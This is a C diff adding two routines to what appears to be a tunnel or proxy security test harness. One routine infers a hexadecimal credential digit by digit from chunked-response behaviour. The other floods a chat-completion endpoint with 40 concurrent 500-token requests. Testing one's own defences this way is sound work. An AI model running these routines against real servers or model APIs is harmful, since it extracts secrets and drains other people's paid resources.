@@ -603,6 +603,104 @@ static int attack_credential(int argc, char **argv)
 	return 0;
 }
 
+#define GUESSED 5 /* letters of a credential of hexadecimal digits */
+#define SURVIVORS 8 /* guesses that may all be right: it can be told in some spellings at once */
+
+/* How many bytes of an answer in chunks came after the first chunk. */
+static size_t came_late(const char *body)
+{
+	size_t total = 0, first = 0;
+	char *end;
+
+	for (size_t size; (size = strtoul(body, &end, 16)) > 0 && end != body; total += size) {
+		first = first ? first : size;
+		if (size + 4 > strlen(end))
+			break;
+		body = end + 2 + size + 2;
+	}
+	return total - first;
+}
+
+/* Sends a guess, which is the last of what is said back. */
+static size_t see_guess(const struct sockaddr_in *at, const char *guess)
+{
+	static struct text request, answer;
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+
+	request.len = answer.len = 0;
+	text_put(&request, "POST / HTTP/1.1\r\nHost: safe.door\r\nContent-Length: %zu\r\n\r\n%s", strlen(guess), guess);
+	if (connect(fd, (const struct sockaddr *)at, sizeof(*at)) == 0) {
+		send(fd, request.bytes, request.len, MSG_NOSIGNAL);
+		for (ssize_t came; answer.len < sizeof(answer.bytes) - 1 &&
+			(came = recv(fd, answer.bytes + answer.len, sizeof(answer.bytes) - 1 - answer.len, 0)) > 0;)
+			answer.len += (size_t)came;
+	}
+	close(fd);
+	answer.bytes[answer.len] = '\0';
+	const char *body = strstr(answer.bytes, "\r\n\r\n");
+	return body ? came_late(body + 4) : 0;
+}
+
+/* guess ADDRESS PORT: find a secret door's credential letter by letter, from how a server that says everything back is heard:
+ * what may be its beginning comes late */
+static int attack_guess(int argc, char **argv)
+{
+	struct sockaddr_in at = { .sin_family = AF_INET };
+	char guesses[SURVIVORS + 1][GUESSED + 1] = { "" };
+	size_t count = 1;
+
+	if (argc != 2)
+		return 2;
+	at.sin_port = htons((uint16_t)atoi(argv[1]));
+	inet_pton(AF_INET, argv[0], &at.sin_addr);
+	for (size_t len = 1; len <= GUESSED && count <= SURVIVORS; len++) {
+		char before[SURVIVORS + 1][GUESSED + 1];
+		size_t tried = 16 * count;
+		memcpy(before, guesses, sizeof(before));
+		count = 0;
+		for (size_t i = 0; i < tried && count <= SURVIVORS; i++) {
+			char guess[GUESSED + 1];
+			snprintf(guess, sizeof(guess), "%s%zx", before[i / 16], i % 16);
+			if (see_guess(&at, guess) == len)
+				memcpy(guesses[count++], guess, sizeof(guess));
+		}
+	}
+	for (size_t i = 0; i < count && count <= SURVIVORS; i++)
+		got_text("guess", guesses[i]);
+	got_number("guesses", (long long)count);
+	return 0;
+}
+
+/* spend ADDRESS PORT: ask a model many times before the first answer is read */
+static int attack_spend(int argc, char **argv)
+{
+	static const char *const bodies[] = { "{\"model\":\"m\",\"stream\":true,\"max_tokens\":500,\"messages\":[]}",
+		"{\"model\":\"m\",\"max_tokens\":500,\"n\":1,\"messages\":[]}" };
+	static struct text request;
+	int fds[40];
+	char bytes[4096];
+
+	for (size_t i = 0; argc == 2 && i < COUNT(fds); i++) {
+		struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1])) };
+		const char *body = bodies[i % COUNT(bodies)];
+		fds[i] = socket(AF_INET, SOCK_STREAM, 0);
+		inet_pton(AF_INET, argv[0], &at.sin_addr);
+		if (connect(fds[i], (struct sockaddr *)&at, sizeof(at)) < 0)
+			continue;
+		request.len = 0;
+		text_put(&request, "POST /v1/chat/completions HTTP/1.1\r\nHost: safe.door\r\nContent-Length: %zu\r\n\r\n%s",
+			strlen(body), body);
+		send(fds[i], request.bytes, request.len, MSG_NOSIGNAL);
+	}
+	for (size_t i = 0; argc == 2 && i < COUNT(fds); i++) {
+		ssize_t came = recv(fds[i], bytes, sizeof(bytes) - 1, 0);
+		bytes[came > 0 ? came : 0] = '\0';
+		got_number("answered", came > 12 ? atoi(bytes + 9) : 0);
+		close(fds[i]);
+	}
+	return 0;
+}
+
 const struct attack tunnel_attacks[] = {
 	{ "hellos", attack_hellos },
 	{ "smuggle", attack_smuggle },
@@ -614,5 +712,7 @@ const struct attack tunnel_attacks[] = {
 	{ "greedy", attack_greedy },
 	{ "orphan", attack_orphan },
 	{ "credential", attack_credential },
+	{ "guess", attack_guess },
+	{ "spend", attack_spend },
 	{ 0 },
 };
